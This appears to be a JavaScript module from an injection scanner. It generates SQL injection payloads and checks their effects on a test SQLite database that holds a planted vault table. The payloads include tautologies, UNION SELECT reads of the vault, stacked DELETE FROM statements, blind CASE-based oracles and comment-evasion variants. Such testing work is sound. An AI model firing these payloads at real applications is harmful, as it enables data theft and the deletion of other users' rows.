// Text that becomes part of a statement, seen on a real SQLite database: rows that no harmless value reaches, rows that
// it does not change, and answers that tell what another table holds.
'use strict';

const { Family, Payload, isByDesign, proven, reached, saidBy } = require('./family.cjs');

const BROKEN = /syntax error|unrecognized token|incomplete input|more than one statement|SELECTs to the left/;
const BY_DESIGN = /^(?:sql|statement|stmt|raw_?sql|sql_?query|query_?(?:sql|text))$/i;
const VAULT = 'assay_vault';
const TEST = `(SELECT state FROM ${VAULT})='open'`;

class Sql extends Family {
  isPadded = true;
  takesNumbers = true;
  wanted = ['text', 'id', 'filename'];
  /** A database was asked something, if only once. */
  hasAsked = false;

  *payloads(site) {
    for (const text of [
      "' OR '1'='1",
      "' OR 1=1 --",
      '1 OR 1=1',
      "x' --",
      '" OR "1"="1',
      "') OR ('1'='1",
      "%' OR '1'='1",
      '" OR 1=1 --',
      "') OR 1=1 --",
      '1) OR (1=1',
    ]) {
      yield new Payload(text);
    }
    yield* this.blind(site);
    const columns = Array.from({ length: Math.max(1, Math.min(this.width, 30)) }, () => 'code').join(', ');
    for (const head of ["'", '0', "')", '"', "%'", ''])
      yield new Payload(`${head} UNION SELECT ${columns} FROM ${VAULT} --`);
    const table = this.tables[0] ?? VAULT;
    for (const head of ["'; ", '1; ', "'); ", '"; ']) yield new Payload(`${head}DELETE FROM ${table} --`);
    for (const text of [
      `'||(SELECT code FROM ${VAULT})||'`,
      `(SELECT code FROM ${VAULT})`,
      `SELECT code FROM ${VAULT}`,
      `', (SELECT code FROM ${VAULT})) --`,
    ])
      yield new Payload(text);
    for (const text of ["'/**/OR/**/'1'='1", "'\tOR\t'1'='1", "\\' OR 1=1 --", "'OR'1"])
      yield new Payload(text);
  }

  /** The answer differs with what another table holds. */
  *blind() {
    const column = this.columns[0] ?? 'id';
    const overflow = 'abs(-9223372036854775808)';
    for (const text of [
      `' OR ${TEST} --`,
      `0 OR ${TEST}`,
      `" OR ${TEST} --`,
      `CASE WHEN ${TEST} THEN ${column} ELSE ${overflow} END`,
      `(SELECT CASE WHEN ${TEST} THEN 1 ELSE ${overflow} END)`,
      `${column} LIMIT (SELECT CASE WHEN ${TEST} THEN 5 ELSE 0 END)`,
    ]) {
      yield new Payload(text, { isTwin: true });
    }
  }

  replay(text) {
    return new Payload(text, { isTwin: text.includes('state FROM') });
  }

  extra(_site, payload) {
    return { state: payload?.more.isTwin === true ? 'open' : 'shut' };
  }

  controls(_site, payload) {
    const same = (value) => payload.with(value);
    return [undefined, same('harmless'), same('99999')];
  }

  isDeaf() {
    return !this.hasAsked;
  }

  learn(given) {
    const control = ofTables(given);
    this.noteAsked(control);
    this.read = secretsOf(control, this.hunt.secret);
    this.kept = rowsOf(control);
    this.control = control;
    this.tables = Object.keys(control.tables ?? {});
    this.columns = Object.keys(JSON.parse(control.tables?.[this.tables[0]]?.first ?? '{}')).filter(
      (name) => name !== 'id',
    );
    this.width = widthOf(control);
    this.isBroken = brokenOf(control) !== undefined;
    this.hunt.lastTables = control.tables;
  }

  /** Not the values of a statement. */
  arrivals(seen) {
    return (seen.sql ?? []).length === 0 ? undefined : seen.sql.map(({ sql }) => sql);
  }

  noteAsked({ sql = [] }) {
    this.hasAsked ||= sql.length > 0;
  }

  judge({ site, payload, seen: given }) {
    const seen = ofTables(given);
    this.noteAsked(seen);
    if (Object.keys(seen.tables ?? {}).length > 0) this.hunt.lastTables = seen.tables;
    const harm = this.harm(seen, payload) ?? (payload?.more.isTwin === true ? this.twin(seen) : undefined);
    if (
      harm !== undefined &&
      site !== undefined &&
      payload !== undefined &&
      isByDesign(this.hunt, site, BY_DESIGN)
    )
      return reached(`the parameter is a whole statement: ${harm.effect}`);
    if (harm !== undefined) return harm;
    const broken = brokenOf(seen);
    if (broken === undefined || this.isBroken || payload === undefined || !/\W/.test(String(payload.value)))
      return undefined;
    return isOther(seen, this.control)
      ? reached(`it changes the structure of the statement: ${broken.slice(0, 120)}`)
      : undefined;
  }

  harm(seen, payload) {
    const found = [...secretsOf(seen, this.hunt.secret)].filter((one) => !this.read.has(one));
    const wasAsked = (seen.sql ?? []).some(
      ({ sql }) => payload !== undefined && isOther(seen, this.control) && sql !== undefined,
    );
    if (found.length > 0 && wasAsked) return proven('rows were returned that no harmless value reaches');
    const tables = Object.values(seen.tables ?? {});
    if (tables.some(({ isLeaked }) => isLeaked))
      return proven(`what another table (${VAULT}) holds was written into a row`);
    if (!wasAsked || !(seen.sql ?? []).some(isChange)) return undefined;
    const now = rowsOf(seen);
    const lost = [...this.kept].filter(
      ([name, rows]) => now.has(name) && rows.some((row) => isChanged(row, now.get(name))),
    );
    return lost.length > 0
      ? proven(`rows of other users were changed or removed (${lost.map(([name]) => name).join(', ')})`)
      : undefined;
  }

  /** Only the answer to the other state of the vault can be compared. */
  twin(seen) {
    if (seen.otherwise === undefined || seen.stopped !== undefined) return undefined;
    const [one, other] = [signatureOf(seen.otherwise, this.hunt), signatureOf(seen, this.hunt)];
    return one === other ? undefined : proven(`the answer tells what another table (${VAULT}) holds`);
  }

  /** A payload that asks is run against the vault in its other state as well. */
  beside(payload) {
    return payload?.more.isTwin === true ? { state: 'shut' } : undefined;
  }

  mayBe(text) {
    // Part of its name is another table, which would be made.
    return /\W/.test(text) && (!text.includes(VAULT.slice(0, 4)) || text.includes(VAULT));
  }
}

/** Without what stores of documents were asked. */
function ofTables(seen) {
  return { ...seen, sql: (seen.sql ?? []).filter(({ sql }) => !sql.startsWith('find ')) };
}

/** What stands before the secret tells whose row it is. */
function secretsOf(seen, secret) {
  const text = [saidBy(seen), ...(seen.sql ?? []).map(({ rows }) => rows ?? '')].join('\n');
  return new Set((text.match(new RegExp(`${secret}\\w`, 'g')) ?? []).map((one) => one.slice(secret.length)));
}

function rowsOf(seen) {
  return new Map(Object.entries(seen.tables ?? {}).map(([name, { rows }]) => [name, rows.map(parsed)]));
}

function isChange({ sql, error }) {
  return error === undefined && /\b(?:update|delete|insert|drop|alter|replace)\b/i.test(sql);
}

/** What the harmless call wrote itself does not count, and columns may have been added. */
function isChanged(row, rows) {
  const secrets = Object.keys(row).filter((name) => String(row[name]).startsWith('secret-'));
  const same = rows.find((one) => one.id === row.id);
  return secrets.length > 0 && (same === undefined || secrets.some((name) => same[name] !== row[name]));
}

function parsed(text) {
  try {
    return JSON.parse(text);
  } catch {
    return {};
  }
}

function widthOf({ sql = [] }) {
  for (const { sql: text } of sql) {
    const list = /\bselect\s+(?:distinct\s+)?([^*(]+?)\s+from\b/i.exec(text)?.[1];
    if (list !== undefined) return list.split(',').length;
  }
  return 4;
}

function brokenOf(seen) {
  return (seen.sql ?? [])
    .map(({ error }) => error)
    .find((error) => error !== undefined && BROKEN.test(error));
}

/** Whether statements were asked that differ by more than their values. */
function isOther(seen, control) {
  const texts = ({ sql = [] }) => sql.map((one) => one.sql);
  const known = new Set(texts(control ?? {}));
  return texts(seen).some((text) => !known.has(text));
}

function signatureOf(seen, { secret, plan }) {
  return JSON.stringify([
    seen.end,
    seen.error?.name,
    seen.response?.status,
    seen.called?.error !== undefined,
    saidBy(seen).replaceAll(secret, ''),
    plan.method,
  ]);
}

module.exports = { Sql };
